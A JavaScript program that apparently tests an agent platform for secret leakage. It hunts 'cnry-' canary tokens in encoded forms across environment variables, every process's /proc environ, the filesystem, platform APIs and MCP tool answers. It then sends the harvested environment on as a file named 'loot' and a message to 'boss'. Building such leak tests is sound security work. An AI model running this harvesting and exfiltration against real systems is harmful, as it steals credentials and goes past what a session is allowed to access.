// The program of an agent that looks for secrets in every place that a session can reach. It knows how they begin, and prints
// how many it found at each place. It also sends on the secrets it finds, as a thief would: by mail, into a file, into the
// arguments of a call.
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";

const { AGENCY_URL: url, AGENCY_TOKEN: token } = process.env;
const start = ["cn", "ry"].join("");
/** A text with this beginning in base64, with 0, 1 or 2 bytes before it, and in hexadecimal. */
const forms = [
  `${start}-[0-9a-f]{8}`,
  ...[0, 1, 2].map((before) => {
    const bytes = Buffer.concat([Buffer.alloc(before), Buffer.from(`${start}-`)]);
    return bytes.toString("base64").slice(Math.ceil((before * 4) / 3), Math.floor((bytes.length * 4) / 3));
  }),
  Buffer.from(`${start}-`).toString("hex"),
];
const pattern = new RegExp(forms.join("|"), "g");
const counts = new Map();
let looked = 0;
const look = (place, text) => {
  looked++;
  const found = String(text).match(pattern)?.length ?? 0;
  if (found > 0) counts.set(place, (counts.get(place) ?? 0) + found);
};

look("environment", JSON.stringify(process.env));
look("arguments", process.argv.join(" "));
for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name)))
  for (const file of ["environ", "cmdline", "status", "maps"])
    try {
      look(`/proc ${file}`, readFileSync(`/proc/${pid}/${file}`, "latin1"));
    } catch {
      // This process may not be read.
    }
walk("/", 0);

async function ask(path, method, params) {
  const answer = await fetch(url + path, {
    method: "POST",
    headers: {
      authorization: `Bearer ${token}`,
      "content-type": "application/json",
      accept: "application/json, text/event-stream",
    },
    body: JSON.stringify({ jsonrpc: "2.0", id: 1, method, params }),
  });
  return answer.text();
}
const call = async (path, name, args = {}) => {
  const text = await ask(path, "tools/call", { name, arguments: args });
  look(`answer of ${name}`, text);
  return text;
};

// Asks for everything that a server has: its environment, its errors, its files.
const env = await call("/mcp/every", "get-env");
await call("/mcp", "every__get-env");
await call("/mcp/every", "get-structured-content", { location: "New York" });
await call("/mcp/every", "no-such-tool", { x: env.slice(0, 1000) });
await call("/mcp/broken", "anything");
await call("/mcp/unset", "anything");
await call("/mcp/every", "echo", { message: env });
look("list of tools", await ask("/mcp/every", "tools/list", {}));
for (const path of [
  "/api/installation",
  "/api/companies",
  "/api/me",
  "/api/openapi.json",
  "/api/audit",
  "/api/brains",
])
  look(
    path,
    await fetch(url + path, { headers: { authorization: `Bearer ${token}` } }).then((answer) =>
      answer.text(),
    ),
  );
for (const name of [
  "list_files",
  "read_inbox",
  "list_permissions",
  "read_audit_log",
  "my_outcomes",
  "list_roster",
])
  await call("/mcp", name);
await call("/mcp", "view_configurations");
// Sends on everything that was found.
await call("/mcp", "create_file", { description: "loot", content: env });
await call("/mcp", "send_message", { to: "boss", body: env.slice(0, 50_000) });
console.log(env);
for (const [place, count] of counts) console.log(`FOUND ${count} in ${place}`);
console.log(
  `looked at ${looked} places, found ${[...counts.values()].reduce((sum, count) => sum + count, 0)}`,
);
setInterval(() => undefined, 1000);

/** Every file that can be read, up to 256 kB of each, except the system's own. */
function walk(folder, depth) {
  if (["/usr", "/proc", "/sys", "/dev", "/nix", "/lib", "/bin", "/sbin"].includes(folder) || depth > 8)
    return;
  if (folder.includes("node_modules")) return;
  let names = [];
  try {
    names = readdirSync(folder);
  } catch {
    return;
  }
  for (const name of names) {
    const path = join(folder, name);
    try {
      const found = statSync(path);
      if (found.isDirectory()) walk(path, depth + 1);
      else if (found.isFile() && found.size < 262_144) look(`file ${path}`, readFileSync(path, "latin1"));
    } catch {
      // This file may not be read.
    }
  }
}
